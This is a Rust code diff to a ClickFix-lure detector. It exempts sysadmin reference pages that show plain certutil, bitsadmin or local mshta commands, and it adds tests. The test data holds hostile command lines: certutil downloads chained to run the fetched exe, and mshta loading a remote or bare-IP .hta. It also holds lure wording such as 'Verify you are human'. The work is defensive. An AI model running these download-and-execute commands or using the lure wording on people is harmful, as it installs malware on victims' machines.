@@ -214,11 +214,36 @@ impl Command {
             && self.https_sites.iter().all(|s| s == page_site)
     }
 
+    /// A bare `mshta` of a local `.hta` runs an application already installed: fetched from
+    /// nowhere, like a local `cmd /c`.
     pub fn windows_payload(&self) -> bool {
         self.shapes.iter().any(|s| {
             s.platform() == Platform::Windows
-                && (self.remote || !matches!(s, Shape::Cmd | Shape::Rundll32))
+                && (self.remote || !matches!(s, Shape::Cmd | Shape::Rundll32 | Shape::Mshta))
         })
+    }
+
+    /// A reference page's example: one command (nothing chained or piped: a lure runs what it
+    /// fetched), fetching nothing or only over `https://` from host names, of the shapes a
+    /// sysadmin wiki lists (`certutil -urlcache -f https://…`, `bitsadmin /transfer`, a local
+    /// `mshta`, a flagged `powershell`); never a download run, a hidden or encoded script.
+    fn reference_like(&self) -> bool {
+        (!self.remote || !self.https_sites.is_empty())
+            && !self.padded
+            && !self.comment_pretext
+            && !self.flat.bytes().any(|b| matches!(b, b'&' | b'|' | b';'))
+            && self.shapes.iter().all(|s| {
+                matches!(
+                    s,
+                    Shape::PowerShell
+                        | Shape::Mshta
+                        | Shape::Cmd
+                        | Shape::Rundll32
+                        | Shape::MsiexecUrl
+                        | Shape::Certutil
+                        | Shape::Bitsadmin
+                )
+            })
     }
 }
 
@@ -1350,10 +1375,18 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     let dav = host.contains('@') || has(&command.flat, "davwwwroot");
     let elsewhere = registrable(host.split('@').next().unwrap_or("")) != page.site;
     let unc_lure = dav && elsewhere || ip_host(host);
+    // A reference page (a sysadmin wiki, a command cheat sheet) shows the very command it
+    // copies and tells nothing around it: no human check, no repair, error, update or infection.
+    // A lure needs its story to make a person run what it hides.
+    let reference = command.reference_like()
+        && shown
+        && page.weight(Cat::VerifyHuman) < GENERIC_VERIFY
+        && page.story().next().is_none();
     let windows_run = run_dialog
         && command.windows_payload()
         && !docs
         && !help
+        && !reference
         && !(unc_only && (shown || !unc_lure) && !page_pretext && !command.comment_pretext);
     // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
     // Terminal"); a strong shape outside install docs makes them ClickFix. `curl … | sh` only
@@ -2003,6 +2036,67 @@ mod tests {
         ] {
             assert!(!judged(clip, text), "{text}");
         }
+    }
+
+    #[test]
+    fn reference_pages_show_the_commands_they_copy() {
+        // Invented sysadmin wiki and IT pages: "press Win+R, type cmd", then a copy button for
+        // the very command shown, with no human check and no story: a reference, not a lure.
+        let wiki = "Downloading a file from the command line. Open the Run dialog with Win + R, \
+                    type cmd and press Enter, then paste one of these:\n";
+        for clip in [
+            "certutil -urlcache -split -f https://dl.example-vendor.test/tool.zip C:\\Temp\\tool.zip",
+            "bitsadmin /transfer job1 /download /priority normal \
+             https://dl.example-vendor.test/tool.zip C:\\Temp\\tool.zip",
+            "certutil -decode C:\\Temp\\in.b64 C:\\Temp\\out.bin",
+            "mshta C:\\apps\\inventory.hta",
+        ] {
+            assert!(!judged(clip, &format!("{wiki}{clip}\nCopy")), "{clip}");
+        }
+        // A local .hta is an installed application: fetched from nowhere, like `cmd /c`.
+        assert!(!judged(
+            "mshta C:\\apps\\inventory.hta",
+            "Inventory app not starting? To fix it, press Win + R, paste this and press Enter."
+        ));
+    }
+
+    #[test]
+    fn a_shown_command_stays_a_lure_with_a_check_a_story_or_a_chained_run() {
+        let steps = "Press Win + R, paste with Ctrl + V and press Enter:\n";
+        for (clip, before) in [
+            // The download is run: a lure runs what it fetched.
+            (
+                "certutil -urlcache -f https://cdn-x.example/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe",
+                "To continue.",
+            ),
+            // mshta with a URL is no wiki example.
+            ("mshta https://cdn-x.example/go.hta", "To continue."),
+            // Plain http (or a bare IP) is how lures fetch.
+            (
+                "certutil -urlcache -f http://203.0.113.51/a.exe a.exe",
+                "To continue.",
+            ),
+            // A human check or a story next to the shown command.
+            (
+                "certutil -urlcache -f https://cdn-x.example/a.exe a.exe",
+                "Verify you are human.",
+            ),
+            (
+                "bitsadmin /transfer j https://cdn-x.example/a.exe C:\\Temp\\a.exe",
+                "Your browser is out of date.",
+            ),
+            ("mshta \\\\203.0.113.9\\pub\\v.hta", "To continue."),
+        ] {
+            assert!(
+                judged(clip, &format!("{before} {steps}{clip}")),
+                "{before} {clip}"
+            );
+        }
+        // Kept off the page, the reference shapes are the lure's.
+        assert!(judged(
+            "certutil -urlcache -f https://cdn-x.example/a.exe a.exe",
+            "To continue, press Win + R, paste with Ctrl + V and press Enter."
+        ));
     }
 
     #[test]
